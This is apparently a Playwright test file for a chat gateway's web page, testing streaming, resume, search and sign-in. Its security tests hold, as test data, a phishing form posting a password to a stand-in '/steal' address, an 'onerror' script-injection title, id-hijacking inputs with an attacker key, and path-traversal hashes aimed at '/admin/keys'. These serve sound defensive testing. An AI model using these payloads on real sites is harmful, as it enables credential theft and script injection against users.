"""The chat page (chat_gateway/web/) in a real browser: Debian's chromium driven by Playwright, against the real
services and the fake upstream. A failing test leaves a screenshot in test-results/.

Each test reads the answer as the page shows it and as persistence stored it: they must be the same text.
"""

import json
import os
import re
import shutil
import signal
import uuid
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from fastapi import FastAPI
from playwright.sync_api import Browser, ConsoleMessage, Page, Playwright, Request, expect, sync_playwright

from chat_gateway.page import WEB
from testing.processes import Service
from testing.upstream import TEXT, Plan
from tests.chat_gateway.conftest import PERSISTENCE_KEY, gateway_env, read_message, wait_for
from tests.conftest import unreachable

pytestmark = pytest.mark.slow  # starts processes and a browser: left out of `make test-fast`

RESULTS = Path(__file__).resolve().parents[3] / "test-results"
MARKDOWN = (
    "Here is a table:\n\n| city | river |\n| --- | --- |\n| Lyon | Rhone |\n\n"
    "And code:\n\n```python\nprint('hello')\n```\n\nThe end."
)
ADMIN_KEY = "admin-key-for-the-page"
KEY_STORAGE = "durable-chat.key"  # where the page keeps the key it signed in with (app.js)

# What an attacker who writes a model's answer, or a chat's title, would put on the page: a form posting what the
# reader types to another origin, and controls carrying the ids and names of the page's own elements (the sign-in
# dialog's `key` first, holding the attacker's key). None of it may become a control, an id or a name.
ELSEWHERE = "http://127.0.0.1:9/steal"
PAGE_IDS = re.findall(r'\bid="([^"]+)"', (WEB / "index.html").read_text())
ATTACKER_KEY = "dck_ATTACKER"
KEY_INPUT = f'<input id="key" name="key" type="password" value="{ATTACKER_KEY}">'
KEY_ATTACK = f"Sign in again below.\n\n{KEY_INPUT}\n"
ANSWER_ATTACK = (
    "Your session expired: type your password, then press the button below.\n\n"
    f'<form action="{ELSEWHERE}" method="post"><input name="password" value="typed">'
    '<button type="submit">Send it</button></form>\n\n'
    f"<div>\n{KEY_INPUT}\n"
    + "".join(f'<button type="button" id="{id}" name="{id}">{id}</button>\n' for id in PAGE_IDS if id != "key")
    + '<label for="delete">Remove this</label>\n</div>\n\n'
    # A task list: the one control Markdown itself makes.
    "- [x] a task done\n- [ ] a task to do\n"
)
TITLE_ATTACK = (
    f'<img src=x onerror="alert(1)"><form action="{ELSEWHERE}"><button id="key" name="key">Go</button></form>'
)
INTERACTIVE = "form, input, button, select, textarea, label, [id], [name]"
# Everything the page may ask for: its own files and the /chat API's routes, one segment where an id goes.
PAGE_ROUTES = re.compile(
    r"/|/ui/[\w./-]+|/chat|/chat/search|/chat/sessions(/[^/]+(/messages|/favorite|/export)?)?"
    r"|/chat/messages/[^/]+/(stream|cancel|resume)|/v1/models"
)


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as running:
        yield running


@pytest.fixture(scope="module")
def browser(playwright: Playwright) -> Iterator[Browser]:
    executable = os.environ.get("CHROMIUM") or shutil.which("chromium")
    if executable is None:
        unreachable("no chromium to drive (Debian's package: `make browser` installs it)")
    browser = playwright.chromium.launch(executable_path=executable, args=["--no-sandbox"])
    yield browser
    browser.close()


def _forget_every_chat(persistence: Service) -> None:
    """The module's tests share one persistence service; in open mode the page lists every chat in it."""
    with httpx.Client(base_url=persistence.url, headers={"x-api-key": PERSISTENCE_KEY}, timeout=30) as process_store:
        while sessions := process_store.get("/sessions", params={"limit": 200}).json()["items"]:
            for session in sessions:
                assert process_store.delete(f"/sessions/{session['id']}").status_code == 204


def _gateway(tmp_path: Path, persistence: Service, upstream: str, **extra: str) -> Iterator[Service]:
    _forget_every_chat(persistence)
    # A person clicking around makes a few requests a second, more than a script of one tab would.
    env = gateway_env(tmp_path, persistence.url, upstream, RATE_LIMIT="100000/minute", **extra)
    service = Service.uvicorn("chat_gateway.main:create_app", env, tmp_path / "gateway.log").start()
    yield service
    service.kill(signal.SIGTERM)


@pytest.fixture(scope="module")
def _shared_gateway(
    tmp_path_factory: pytest.TempPathFactory, persistence: Service, _fake_openai_server: tuple[FastAPI, str]
) -> Iterator[Service]:
    yield from _gateway(tmp_path_factory.mktemp("gateway"), persistence, _fake_openai_server[1])


@pytest.fixture
def web_gateway(_shared_gateway: Service, persistence: Service, fake_openai: FastAPI) -> Service:
    """The module's gateway process, every chat forgotten: a process start (seconds) per test saved where the
    test kills nothing and needs no model list of its own (``own_web_gateway`` for one that does: the gateway
    reads the upstream's models once)."""
    _forget_every_chat(persistence)
    return _shared_gateway


@pytest.fixture
def own_web_gateway(
    tmp_path: Path, persistence: Service, _fake_openai_server: tuple[FastAPI, str], fake_openai: FastAPI
) -> Iterator[Service]:
    yield from _gateway(tmp_path, persistence, _fake_openai_server[1])


class Console:
    """What the page logs: any error or warning fails the test."""

    def __init__(self) -> None:
        self.problems: list[str] = []

    def watch(self, page: Page) -> None:
        page.on("console", self._message)
        page.on("pageerror", lambda error: self.problems.append(f"uncaught: {error}"))

    def _message(self, message: ConsoleMessage) -> None:
        # A reload or a killed gateway aborts requests on purpose; the browser reports those as network errors.
        if message.type in ("error", "warning") and "net::ERR_" not in message.text:
            self.problems.append(f"{message.type}: {message.text}")


@pytest.fixture
def console() -> Console:
    return Console()


@pytest.fixture
def page(browser: Browser, console: Console, request: pytest.FixtureRequest) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1200, "height": 800})
    context.on("page", console.watch)
    opened = context.new_page()
    yield opened
    report = getattr(request.node, "rep_call", None)
    if report is not None and report.failed:
        RESULTS.mkdir(exist_ok=True)
        for number, each in enumerate(context.pages):
            each.screenshot(path=RESULTS / f"{request.node.name}-{number}.png", full_page=True)
    context.close()
    assert console.problems == [], console.problems


def answer(page: Page) -> str:
    """The last answer's text as the page shows it."""
    return page.locator("article.assistant .body").last.inner_text()


def last_answer_id(page: Page) -> str:
    locator = page.locator("article.assistant").last
    expect(locator).to_have_attribute("data-id", re.compile("^[0-9a-f-]{36}$"))
    return str(locator.get_attribute("data-id"))


def complete(page: Page, timeout: float = 30_000) -> None:
    expect(page.locator("article.assistant").last).to_have_attribute("data-status", "complete", timeout=timeout)


def send(page: Page, text: str) -> None:
    page.locator("#input").fill(text)
    page.locator("#input").press("Enter")


def session_of(page: Page) -> str:
    return page.url.split("#", 1)[1]


def requests_of(page: Page) -> list[Request]:
    """Every request the page's tabs make from now on."""
    made: list[Request] = []
    page.context.on("request", lambda sent: made.append(sent))
    return made


def strays(requests: list[Request], gateway: Service) -> list[str]:
    """The requests that went to another origin than the gateway's, or to none of the page's routes."""
    origin = urlsplit(gateway.url).netloc
    return [
        f"{sent.method} {sent.url}"
        for sent in requests
        if (address := urlsplit(sent.url)).netloc != origin or not PAGE_ROUTES.fullmatch(address.path)
    ]


def test_a_message_streams_and_is_rendered_as_markdown(
    page: Page, web_gateway: Service, process_store: httpx.Client, fake_openai: FastAPI
) -> None:
    fake_openai.state.text = MARKDOWN
    fake_openai.state.plans.append(Plan(delay=0.05))
    page.goto(web_gateway.url)
    expect(page.locator("#sessions-empty")).to_have_text("No chats yet.")
    send(page, "Show me a table")
    expect(page.locator("article.user .body")).to_have_text("Show me a table")
    expect(page.locator("#stop")).to_be_visible()
    # Text shows while the answer is still being written.
    expect(page.locator("article.assistant .body")).to_contain_text("Here is", timeout=20_000)
    assert page.locator("article.assistant").get_attribute("data-status") == "in_progress"
    complete(page)
    expect(page.locator("#send")).to_be_visible()
    body = page.locator("article.assistant .body")
    expect(body.locator("table td").first).to_have_text("Lyon")
    expect(body.locator("pre code.hljs")).to_contain_text("print('hello')")
    message = read_message(process_store, last_answer_id(page))
    assert (message["status"], message["content"]) == ("complete", MARKDOWN)
    expect(page.locator("#sessions a")).to_have_count(1)
    expect(page.locator("#title")).to_have_text("Show me a table")


@pytest.mark.parametrize("delay", [0.0, 0.05], ids=["unpaced", "paced"])
def test_a_reload_mid_answer_replays_it_and_follows_it_to_the_stored_end(
    page: Page, web_gateway: Service, process_store: httpx.Client, fake_openai: FastAPI, delay: float
) -> None:
    fake_openai.state.plans.append(Plan(delay=delay))
    page.goto(web_gateway.url)
    send(page, "Tell me about Lyon")
    expect(page.locator("article.assistant .body")).to_contain_text("Lyon sits", timeout=20_000)
    message_id = last_answer_id(page)
    page.reload()
    complete(page)
    assert answer(page) == TEXT == read_message(process_store, message_id)["content"]
    expect(page.locator("article.assistant")).to_have_count(1)


def test_stop_keeps_the_partial_answer_and_resume_finishes_it(
    page: Page, web_gateway: Service, process_store: httpx.Client, fake_openai: FastAPI
) -> None:
    fake_openai.state.plans.extend([Plan(delay=0.5), Plan()])  # slow enough to be stopped, however slow the machine
    page.goto(web_gateway.url)
    send(page, "Tell me about Lyon")
    expect(page.locator("article.assistant .body")).to_contain_text("Lyon sits", timeout=20_000)
    page.locator("#stop").click()
    article = page.locator("article.assistant")
    expect(article).to_have_attribute("data-status", "failed")
    expect(article.locator(".footer")).to_contain_text("cancelled")
    message = read_message(process_store, last_answer_id(page))
    assert (message["status"], message["error"]) == ("failed", "cancelled")
    assert TEXT.startswith(message["content"])
    assert message["content"] != TEXT
    article.locator("button.resume").click()
    complete(page)
    assert answer(page) == TEXT == read_message(process_store, message["id"])["content"]


def test_an_answer_started_elsewhere_is_stopped_from_a_page_opened_later(
    page: Page, web_gateway: Service, process_store: httpx.Client, fake_openai: FastAPI
) -> None:
    fake_openai.state.plans.append(Plan(delay=0.5))  # slow enough to be stopped, however slow the machine
    with httpx.stream("POST", f"{web_gateway.url}/chat", json={"message": "Hi", "stream": True}, timeout=30) as sent:
        start = next(line for line in sent.iter_lines() if line.startswith("data: "))
    # The client that asked is gone (its tab closed): the answer goes on.
    ids = json.loads(start.removeprefix("data: "))
    page.goto(f"{web_gateway.url}/#{ids['session_id']}")
    expect(page.locator("article.assistant")).to_have_attribute("data-status", "in_progress")
    page.locator("#stop").click()
    expect(page.locator("article.assistant .footer")).to_contain_text("cancelled")
    message = read_message(process_store, ids["message_id"])
    assert (message["status"], message["error"]) == ("failed", "cancelled")
    assert answer(page) == message["content"].rstrip()  # Markdown drops the trailing space


def test_search_finds_a_chat_and_opens_it(page: Page, web_gateway: Service, fake_openai: FastAPI) -> None:
    for question in ("Where do the rivers meet?", "Which pastries are pink?"):
        response = httpx.post(f"{web_gateway.url}/chat", json={"message": question}, timeout=30)
        assert response.status_code == 200, response.text
    page.goto(web_gateway.url)
    expect(page.locator("#sessions a")).to_have_count(2)
    page.locator("#search").fill("pastries")
    expect(page.locator("#sessions a")).to_have_count(1)
    page.locator("#sessions a").click()
    expect(page.locator("#title")).to_have_text("Which pastries are pink?")
    expect(page.locator("article.user .body")).to_have_text("Which pastries are pink?")
    page.locator("#search").fill("zebra")
    expect(page.locator("#sessions-empty")).to_have_text("Nothing found.")
    page.locator("#search").fill("")
    expect(page.locator("#sessions a")).to_have_count(2)


def test_one_answer_streams_in_two_tabs(
    page: Page, web_gateway: Service, process_store: httpx.Client, fake_openai: FastAPI
) -> None:
    fake_openai.state.plans.append(Plan(delay=0.2))  # still answering when the second tab has loaded
    page.goto(web_gateway.url)
    send(page, "Tell me about Lyon")
    expect(page.locator("article.assistant .body")).to_contain_text("Lyon sits", timeout=20_000)
    second = page.context.new_page()
    second.goto(f"{web_gateway.url}/#{session_of(page)}")
    expect(second.locator("article.assistant")).to_have_attribute("data-status", "in_progress")
    complete(page)
    complete(second)
    content = read_message(process_store, last_answer_id(page))["content"]
    assert answer(page) == answer(second) == content == TEXT


@pytest.mark.parametrize("sample", [False, True], ids=["same words", "sampled"])
def test_a_gateway_restart_mid_answer_shows_reconnecting_then_the_rest(
    page: Page, own_web_gateway: Service, process_store: httpx.Client, fake_openai: FastAPI, sample: bool
) -> None:
    """With a model that samples, the words the dead gateway showed are the stored answer's: the page shows it."""
    fake_openai.state.sample = sample
    fake_openai.state.plans.append(Plan(delay=0.1))
    page.goto(own_web_gateway.url)
    send(page, "Tell me about Lyon")
    expect(page.locator("article.assistant .body")).not_to_be_empty(timeout=20_000)
    message_id = last_answer_id(page)
    own_web_gateway.kill(signal.SIGKILL)
    expect(page.locator("#status")).to_contain_text("Reconnecting")
    own_web_gateway.start()  # same port: its recovery takes the answer over once the dead one's lease expires
    complete(page, timeout=60_000)
    expect(page.locator("#status")).to_be_hidden()
    message = read_message(process_store, message_id)
    assert answer(page) == message["content"]
    assert message["status"] == "complete"
    assert sample or message["content"] == TEXT


def test_rename_favorite_export_and_delete_after_confirming(
    page: Page, web_gateway: Service, process_store: httpx.Client, fake_openai: FastAPI
) -> None:
    page.goto(web_gateway.url)
    send(page, "Tell me about Lyon")
    complete(page)
    session_id = session_of(page)
    page.locator("#rename").click()
    page.locator("#ask-value").fill("Lyon, briefly")
    page.locator("#ask-value").press("Enter")
    expect(page.locator("#title")).to_have_text("Lyon, briefly")
    expect(page.locator("#sessions a .name")).to_have_text("Lyon, briefly")
    page.locator("#favorite").click()
    expect(page.locator("#favorite")).to_have_attribute("aria-pressed", "true")
    assert process_store.get(f"/sessions/{session_id}").json()["is_favorite"] is True
    with page.expect_download() as download:
        page.locator("#export-md").click()
    assert "Lyon sits" in Path(download.value.path()).read_text()
    page.locator("#delete").click()
    expect(page.locator("#ask")).to_be_visible()
    page.locator("#ask-cancel").click()
    assert process_store.get(f"/sessions/{session_id}").status_code == 200  # cancelled: nothing deleted
    page.locator("#delete").click()
    page.locator("#ask-ok").click()
    expect(page.locator("#sessions-empty")).to_be_visible()
    expect(page.locator("#title")).to_have_text("New chat")
    assert process_store.get(f"/sessions/{session_id}").status_code == 404


def test_tool_calls_and_their_results_are_shown(page: Page, web_gateway: Service, fake_openai: FastAPI) -> None:
    fake_openai.state.plans.append(Plan(tool_calls=[("get_weather", '{"city": "Lyon"}')]))
    tools = [{"type": "function", "function": {"name": "get_weather", "parameters": {"type": "object"}}}]
    first = httpx.post(
        f"{web_gateway.url}/v1/chat/completions",
        json={"model": "fake-model", "messages": [{"role": "user", "content": "Weather?"}], "tools": tools},
        timeout=30,
    )
    assert first.status_code == 200, first.text
    session_id = first.headers["x-session-id"]
    call = first.json()["choices"][0]["message"]["tool_calls"][0]
    messages = [
        {"role": "user", "content": "Weather?"},
        first.json()["choices"][0]["message"],
        {"role": "tool", "tool_call_id": call["id"], "content": "Sunny, 21 °C"},
    ]
    second = httpx.post(
        f"{web_gateway.url}/v1/chat/completions",
        json={"model": "fake-model", "messages": messages, "tools": tools},
        headers={"x-session-id": session_id},
        timeout=30,
    )
    assert second.status_code == 200, second.text
    page.goto(f"{web_gateway.url}/#{session_id}")
    expect(page.locator("details.tool-call summary")).to_have_text("Calls get_weather")
    page.locator("details.tool-call summary").click()
    expect(page.locator("details.tool-call pre")).to_contain_text('"city": "Lyon"')
    expect(page.locator("article.tool .role")).to_have_text("Result of get_weather")
    expect(page.locator("article.tool .body")).to_have_text("Sunny, 21 °C")


@pytest.fixture
def locked_gateway(
    tmp_path: Path, persistence: Service, _fake_openai_server: tuple[FastAPI, str], fake_openai: FastAPI
) -> Iterator[Service]:
    # Keys not cached: a key revoked is refused at its next request.
    yield from _gateway(tmp_path, persistence, _fake_openai_server[1], CHAT_ADMIN_KEYS=ADMIN_KEY, KEY_CACHE_SECONDS="0")


def create_key(gateway: Service, user_id: str) -> dict[str, str]:
    created = httpx.post(f"{gateway.url}/admin/keys", json={"user_id": user_id}, headers={"x-api-key": ADMIN_KEY})
    assert created.status_code == 201, created.text
    return dict(created.json())


def test_a_locked_gateway_asks_for_a_key_and_shows_that_user_s_chats(
    page: Page, locked_gateway: Service, console: Console
) -> None:
    created = create_key(locked_gateway, f"ann-{uuid.uuid4()}")
    httpx.post(
        f"{locked_gateway.url}/chat", json={"message": "Ann's question"}, headers={"x-api-key": created["key"]}
    ).raise_for_status()
    page.goto(locked_gateway.url)
    expect(page.locator("#sign-in")).to_be_visible()
    page.locator("#key").fill("not-a-key")
    page.locator("#key").press("Enter")
    expect(page.locator("#sign-in-error")).to_have_text("That key was not accepted.")
    page.locator("#key").fill(created["key"])
    page.locator("#key").press("Enter")
    expect(page.locator("#sign-in")).to_be_hidden()
    expect(page.locator("#sessions a .name")).to_have_text(["Ann's question"])
    expect(page.locator("#who")).to_have_text("Signed in with a key")
    page.reload()  # the key is kept in this browser
    expect(page.locator("#sessions a .name")).to_have_text(["Ann's question"])
    # The browser logs the refused key's 401s: those were expected.
    console.problems = [p for p in console.problems if "401" not in p]


def test_on_a_phone_the_list_of_chats_opens_over_the_chat(
    page: Page, web_gateway: Service, fake_openai: FastAPI
) -> None:
    httpx.post(f"{web_gateway.url}/chat", json={"message": "Tell me about Lyon"}, timeout=30).raise_for_status()
    page.set_viewport_size({"width": 390, "height": 800})
    page.goto(web_gateway.url)
    expect(page.locator("#sidebar")).to_be_hidden()
    page.locator("#open-sidebar").click()
    page.locator("#sessions a").click()
    expect(page.locator("#sidebar")).to_be_hidden()
    expect(page.locator("article.assistant .body")).to_have_text(TEXT)
    send(page, "And its food?")
    complete(page)
    expect(page.locator("article.assistant")).to_have_count(2)
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390  # nothing wider than the screen


def test_the_page_loads_nothing_from_elsewhere(page: Page, web_gateway: Service) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    response = page.goto(web_gateway.url)
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "default-src 'self'" in policy
    assert "form-action 'none'" in policy  # no form posts anywhere: the page's own are handled by its script
    assert "base-uri 'none'" in policy  # nor does a <base> move where its relative addresses go
    expect(page.locator("#welcome")).to_be_visible()
    wait_for(lambda: any("/chat/sessions" in url for url in requested))
    assert requested
    assert all(url.startswith(web_gateway.url) for url in requested), requested


def test_a_form_that_slipped_onto_the_page_posts_nowhere(page: Page, web_gateway: Service, console: Console) -> None:
    """The policy is in force, not only sent: were the sanitizer ever to let a form through, it would not post."""
    page.goto(web_gateway.url)
    expect(page.locator("#welcome")).to_be_visible()
    requests = requests_of(page)
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate(
            """action => {
                const form = Object.assign(document.createElement("form"), { action, method: "post" });
                document.body.append(form);
                form.submit();
            }""",
            ELSEWHERE,
        )
    console.problems = [p for p in console.problems if "form-action" not in p]  # the refusal, logged
    # Still the page (read by a script: Playwright's locators would wait for the navigation refused).
    assert page.evaluate("document.querySelector('#welcome') !== null && location.href") == f"{web_gateway.url}/"
    assert strays(requests, web_gateway) == []


def test_an_answer_or_a_title_puts_no_form_control_id_or_name_on_the_page(
    page: Page, web_gateway: Service, fake_openai: FastAPI
) -> None:
    requests = requests_of(page)
    fake_openai.state.text = ANSWER_ATTACK
    sent = httpx.post(f"{web_gateway.url}/chat", json={"message": "Hello"}, timeout=30)
    assert sent.status_code == 200, sent.text
    session_id = sent.json()["session_id"]
    renamed = httpx.put(f"{web_gateway.url}/chat/sessions/{session_id}", json={"title": TITLE_ATTACK}, timeout=30)
    assert renamed.status_code == 200, renamed.text
    page.goto(f"{web_gateway.url}/#{session_id}")
    body = page.locator("article.assistant .body")
    expect(body).to_contain_text("Your session expired")
    expect(body.locator(INTERACTIVE)).to_have_count(0)
    expect(body).to_contain_text("Send it")  # its words stay, as words
    expect(body.locator("li")).to_have_text(["☑ a task done", "☐ a task to do"])
    # Each of the page's ids names one element: its own.
    counts = page.evaluate("ids => ids.map((id) => document.querySelectorAll(`[id='${id}']`).length)", PAGE_IDS)
    assert dict(zip(PAGE_IDS, counts, strict=True)) == dict.fromkeys(PAGE_IDS, 1)
    for shown in (page.locator("#title"), page.locator("#sessions a .name")):
        expect(shown).to_have_text(TITLE_ATTACK)  # a title is text
        expect(shown.locator("*")).to_have_count(0)
    assert page.title() == f"{TITLE_ATTACK} · Durable chat"
    body.get_by_text("Send it").click()  # a submit button, had it stayed one
    body.get_by_text("Remove this").click()  # a label clicking the page's Delete, had it stayed one
    # The page's own controls still do their work, and only they.
    page.locator("#favorite").click()
    expect(page.locator("#favorite")).to_have_attribute("aria-pressed", "true")
    expect(page.locator("#ask")).to_be_hidden()
    assert strays(requests, web_gateway) == []


@pytest.mark.parametrize("attack", [KEY_ATTACK, ANSWER_ATTACK], ids=["the-key-input", "every-id-of-the-page"])
def test_signing_in_again_keeps_the_key_typed_not_one_an_answer_holds(
    page: Page, locked_gateway: Service, fake_openai: FastAPI, console: Console, attack: str
) -> None:
    user = f"ann-{uuid.uuid4()}"
    first, second = create_key(locked_gateway, user), create_key(locked_gateway, user)
    fake_openai.state.text = attack
    sent = httpx.post(
        f"{locked_gateway.url}/chat", json={"message": "Hello"}, headers={"x-api-key": first["key"]}, timeout=30
    )
    assert sent.status_code == 200, sent.text
    requests = requests_of(page)
    page.goto(f"{locked_gateway.url}/#{sent.json()['session_id']}")
    # The page's own dialog and its field, however many elements an answer names `key` or `sign-in`.
    sign_in = page.locator("body > dialog").filter(has_text="This gateway needs a key")
    sign_in.get_by_label("Key").fill(first["key"])
    sign_in.get_by_label("Key").press("Enter")
    complete(page)  # the answer is on the page
    # The key is revoked while the answer is shown: the next request asks for another.
    revoked = httpx.delete(f"{locked_gateway.url}/admin/keys/{first['id']}", headers={"x-api-key": ADMIN_KEY})
    assert revoked.status_code == 200, revoked.text
    page.get_by_role("searchbox", name="Search chats").fill("Hello")
    expect(sign_in).to_be_visible()
    signed_again = len(requests)
    sign_in.get_by_label("Key").fill(second["key"])
    sign_in.get_by_label("Key").press("Enter")
    expect(sign_in).to_be_hidden()
    expect(page.locator("#sessions a .name")).to_have_text(["Hello"])
    assert page.evaluate("name => localStorage.getItem(name)", KEY_STORAGE) == second["key"]
    api_calls = [sent for sent in requests[signed_again:] if urlsplit(sent.url).path.startswith("/chat")]
    assert api_calls
    assert {sent.headers.get("x-api-key") for sent in api_calls} == {second["key"]}
    assert strays(requests, locked_gateway) == []
    console.problems = [p for p in console.problems if "401" not in p]  # the revoked key's refusals


def test_an_address_s_hash_never_leads_the_page_outside_its_routes(
    page: Page, locked_gateway: Service, console: Console
) -> None:
    # An admin's page: a request the hash could steer to /admin/keys would carry an admin's key.
    page.add_init_script(f"localStorage.setItem({json.dumps(KEY_STORAGE)}, {json.dumps(ADMIN_KEY)})")
    requests = requests_of(page)
    page.goto(f"{locked_gateway.url}/#../../admin/keys")
    expect(page.locator("#status")).to_be_visible()
    for hash in ("..", "%2e%2e/%2e%2e/admin/keys", "x/../../../admin/keys", "../../admin/keys?user_id=ann"):
        page.locator("#new-chat").click()
        expect(page.locator("#status")).to_be_hidden()
        page.evaluate("hash => { location.hash = hash; }", hash)
        expect(page.locator("#status")).to_have_attribute("data-kind", "error")
        expect(page.locator("#status")).to_be_visible()
    assert strays(requests, locked_gateway) == []
    assert [sent.url for sent in requests if "/chat/sessions/" in sent.url]  # asked for as chats, not elsewhere
    # The browser logs the refusals of what names no chat: those were expected.
    console.problems = [p for p in console.problems if not re.search(r"status of (404|422)", p)]


def test_a_model_is_picked_from_the_gateways_list(page: Page, own_web_gateway: Service, fake_openai: FastAPI) -> None:
    fake_openai.state.models = ["fake-model", "other-model"]
    page.goto(own_web_gateway.url)
    expect(page.locator("#model option")).to_have_text(["Default model", "fake-model (fake)", "other-model (fake)"])
    page.locator("#model").select_option("other-model")
    send(page, "Which model?")
    complete(page)
    assert [request["model"] for request in fake_openai.state.requests] == ["other-model"]
